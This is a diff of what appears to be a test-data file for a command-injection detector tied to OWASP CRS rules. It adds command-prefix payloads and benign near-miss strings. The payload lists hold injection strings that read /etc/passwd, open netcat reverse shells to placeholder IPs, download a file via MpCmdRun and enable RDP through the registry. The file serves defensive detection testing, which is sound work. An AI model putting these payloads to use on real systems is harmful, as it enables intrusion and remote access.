@@ -94,6 +94,11 @@ COMMANDS = {
                   "x;eval ifconfig", "x;env -i nc -e /bin/sh 10.0.0.1 4444",
                   # LOLBAS binaries (CRS 932370)
                   "x;certoc -LoadDLL x.dll", "| wsl -e id", "& MpCmdRun -DownloadFile -url http://x/a -path c:\\a"],
+    # CRS's command prefixes (regex-assembly/include/unix-shell-evasion-prefix.ra, windows-commands-prefix.ra): an
+    # equals sign, a function's body, `command`, cmd.exe's `@` and `,` delimiters, %COMSPEC%, %SYSTEMROOT% paths
+    "prefixes": ["x=ifconfig", "a=uname -a", "=ls -la", "=id", "a() ( ifconfig; ); a", "f() { id; }; f",
+                 ";command ifconfig", "x;command -p cat /etc/passwd", "&@ipconfig /all", "&,ipconfig",
+                 "|%COMSPEC% /c whoami", "& %SYSTEMROOT%\\system32\\ipconfig"],
     "split words": ["'i'p a", "/bin/ca't' /et*/passwd", '";\\n. shell nc 10.10.10.1 6666 -e sh\\n',
                     'reg add "HKLM\\System\\Terminal Server" /v fDenyTSConnections /t REG_DWORD /d 0 /f'],
 }
@@ -101,7 +106,8 @@ COMMAND_NEAR_MISSES = [
     "R&D department network", "salt & type of pepper", "Tom & net profit 2024", "the dir command lists files",
     "Smartwatch Models & More", "hp|gen|top|women", "MMB|SC|C1|MakeMyBook", "cat food", "find a store near me",
     "set up your account", "I type fast; echo chambers are bad", "2+2;+3", "notes; ip phone", "I use dotnet daily",
-    "ps: flux; ps wax", "one; ps relax", "Q&A: who are we?", "Rock & Roll",
+    "sort=uptime", "type=id", "name=cat food", "f(x) (see below)", "ask; command line", "mail a@b.com, dir",
+    "E-mail: x@y.z; @ping me", "ps: flux; ps wax", "one; ps relax", "Q&A: who are we?", "Rock & Roll",
     "dogs & cats", "id", "dir", "type", "sort=id", "ping pong", "sleep well", "print-ready.pdf",
     "my_script.sh", "run.bat", "R&B; soul", "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36",
     "it's a 'ls' command", "A & B | C", "Use `git status` to check", "Pay $(price) now",
